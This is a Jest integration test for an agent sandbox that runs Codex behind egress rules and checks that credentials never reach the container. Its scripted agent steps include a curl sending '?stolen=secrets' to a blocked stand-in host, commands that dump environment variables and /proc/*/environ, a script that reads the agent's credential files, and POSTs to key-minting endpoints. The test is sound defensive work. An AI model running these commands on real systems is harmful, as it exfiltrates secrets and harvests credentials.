import { randomBytes } from "node:crypto";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "@jest/globals";
import { CliProcess } from "../support/cli-process.ts";
import { codexTokens, writeCodexLogin } from "../support/codex-login.ts";
import { describeWithEngine, docker, Undo } from "../support/engine.ts";
import { Installation } from "../support/installation.ts";
import { run, until } from "../support/process.ts";
import { agentContainer, endGently } from "../support/real-agent.ts";
import { type StandIn, startStandIn } from "../support/stand-in.ts";
import { Terminal } from "../support/terminal.ts";

const ALLOWED = "allowed.test";
const ALLOWED_TEXT = "This is the allowed host.";
const BLOCKED = "blocked.test";
const API_KEY = `sk-proj-${randomBytes(24).toString("base64url")}`;

/** Shell calls of the agent; the test looks into the bottle while the fourth waits. */
const STEPS = [
  `curl -sS https://${ALLOWED}/ | tee /tmp/allowed`,
  `curl -sS "https://${BLOCKED}/?stolen=secrets" | tee /tmp/blocked`,
  "{ env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; } | sort -u | tee /tmp/environment",
  "touch /tmp/waiting; until [ -e /tmp/go ]; do sleep 0.1; done",
  'for name in allowed blocked environment; do echo "== $name"; cat /tmp/$name; done',
];
/** Everything that a process could have been handed, and the program's own files. */
const LOOK = `env; for file in /proc/*/environ /proc/*/cmdline; do cat $file 2>/dev/null | tr '\\0' '\\n'; done
find /home/node/.codex -type f -exec cat {} + 2>/dev/null; true`;
/** Keys and tokens may be had there, or something be published. */
const MINTING = {
  "api.openai.com": ["/v1/realtime/client_secrets", "/v1/organization/admin_api_keys", "/v1/files"],
  "chatgpt.com": ["/backend-api/wham/agent-identities", "/backend-api/codex/realtime/calls", "/backend-api/files"],
} as const;

const undo = new Undo();
const perTest = new Undo();
let installation: Installation;

interface Kind {
  readonly title: string;
  readonly host: keyof typeof MINTING;
  /** of `agent_provider` */
  readonly setting: string;
  /** makes the credential of this machine ready. @returns it */
  readonly prepare: () => Promise<string>;
}

const KINDS: readonly Kind[] = [
  {
    title: "an API key",
    host: "api.openai.com",
    setting: "auth_token: OPENAI_API_KEY",
    prepare: async () => API_KEY,
  },
  {
    title: "the login of this machine",
    host: "chatgpt.com",
    setting: "forward_host_credentials: true",
    prepare: async () => {
      const tokens = codexTokens(randomBytes(8).toString("hex"));
      await writeCodexLogin(installation, tokens);
      return tokens.access;
    },
  },
];

async function writeBottle(name: string, api: StandIn, { host, setting }: Kind): Promise<void> {
  await installation.write(
    name,
    `
agent_provider: { template: codex, ${setting} }
egress:
  upstream: ${api.upstream}
  routes:
    - { host: ${host}, override: true, allow_private: ["${api.network.subnet}"] }
    - { host: ${ALLOWED}, matches: [{ methods: [GET] }], allow_private: ["${api.network.subnet}"] }
`,
  );
}

describeWithEngine("the real Codex in a bottle", () => {
  beforeAll(async () => {
    installation = await Installation.make({ OPENAI_API_KEY: API_KEY });
    undo.defer(() => installation.remove());
  });
  afterEach(() => perTest.run());
  afterAll(() => undo.run());

  describe.each(KINDS)("with $title", (kind) => {
    let standIn: StandIn;
    beforeAll(async () => {
      const answers = { [`GET ${ALLOWED}/`]: { body: ALLOWED_TEXT } };
      standIn = await startStandIn(undo, installation, { steps: STEPS, hosts: [ALLOWED], answers });
      await writeBottle("headless", standIn, kind);
    });

    it("works headless; nothing in the bottle holds the credential that the API gets", async () => {
      const value = await kind.prepare();
      const argv = ["start", "headless", "--headless", "--yes", "--json", "--prompt", "go"];
      const running = CliProcess.start(installation, argv, { stdin: "" });
      perTest.defer(() => endGently(running));
      const agent = await agentContainer(installation);
      await until("the agent's fourth call", async () =>
        (await run("docker", ["exec", agent, "ls", "/tmp"])).stdout.includes("waiting") ? true : undefined,
      ).catch((error: unknown) => {
        throw new Error(`${String(error)}: ${running.stderr}`, { cause: error });
      });
      const seen = await Promise.all(
        ["node", "0"].map((user) => docker(["exec", "--user", user, agent, "sh", "-c", LOOK])),
      );
      const asked = MINTING[kind.host].map(
        async (path) =>
          await docker([
            ...["exec", "--user", "node", agent, "curl", "-sS", "--request", "POST"],
            ...["--header", "Authorization: Bearer bot-bottle-placeholder", `https://${kind.host}${path}`],
          ]),
      );
      for (const answer of await Promise.all(asked)) expect(answer).toContain('"code":"provider_refused"');
      // A login that its program renews meanwhile.
      const isLogin = kind.host === "chatgpt.com";
      const renewed = isLogin ? await kind.prepare() : value;
      if (isLogin) {
        await until("the renewed login in the sidecar", async () => {
          const slug = agent.replace("bot-bottle-", "");
          return (await installation.records(slug)).some(({ type }) => type === "secrets") ? true : undefined;
        });
      }
      const before = (await standIn.requests()).length;
      await docker(["exec", "--user", "node", agent, "touch", "/tmp/go"]);
      const { exitCode, stdout, stderr } = await running.ended;

      expect([exitCode, exitCode === 0 ? "" : stderr]).toEqual([0, ""]);
      const { output } = JSON.parse(stdout) as { output: string };
      expect(output).toContain(ALLOWED_TEXT);
      expect(output).toContain('"code":"host_not_declared"');
      for (const text of [output, ...seen]) for (const secret of [value, renewed]) expect(text).not.toContain(secret);
      // The same look finds what is there.
      expect(seen[0]).toContain("bot-bottle-placeholder");

      const requests = (await standIn.requests()).filter(({ host }) => host === kind.host);
      const all = await standIn.requests();
      expect(requests.length).toBeGreaterThan(STEPS.length);
      const usedBy = (list: typeof all): ReadonlySet<string | undefined> =>
        new Set(list.filter(({ host }) => host === kind.host).map(({ authorization }) => authorization));
      expect(usedBy(all.slice(0, before))).toEqual(new Set([`Bearer ${value}`]));
      expect(usedBy(all.slice(before))).toEqual(new Set([`Bearer ${renewed}`]));
      const minting: readonly string[] = MINTING[kind.host];
      expect(requests.filter(({ url }) => minting.includes(url))).toEqual([]);
      expect(requests.filter(({ upgrade }) => upgrade !== undefined)).toEqual([]);
      expect(await installation.left()).toEqual([]);
    });

    it("shows its prompt on a terminal without a dialog, takes keys, follows the size, and ends with 0", async () => {
      const api = await startStandIn(undo, installation, { steps: ["echo the tide is at noon"], hosts: [ALLOWED] });
      await writeBottle("terminal", api, kind);
      await kind.prepare();
      const terminal = await Terminal.open(perTest, installation, ["start", "terminal", "--yes"]);
      const first = await terminal.shows(/YOLO mode/);
      expect(first).not.toMatch(/Sign in|Do you trust|Hooks need review|Update available/i);
      const agent = await agentContainer(installation);
      await terminal.type("When is the tide?");
      await terminal.shows("the tide is at noon");
      await terminal.resize(72, 30);
      await until("the new size inside", async () => {
        const argv = ["exec", "--user", "node", agent, "sh", "-c", "stty -F /proc/$(pgrep -o codex)/fd/0 size"];
        return (await docker(argv)) === "30 72" ? true : undefined;
      });
      await new Promise((resolve) => setTimeout(resolve, 3_000)); // it asks where its cursor is, and nobody answers
      await terminal.type("/quit");
      expect(await terminal.exitCode()).toBe(0);
      const { before, after } = await terminal.leftBehind();
      expect(after.replace(/rows.*columns \d+/, "")).toBe(before.replace(/rows.*columns \d+/, ""));
      expect(await installation.left()).toEqual([]);
    });
  });
});
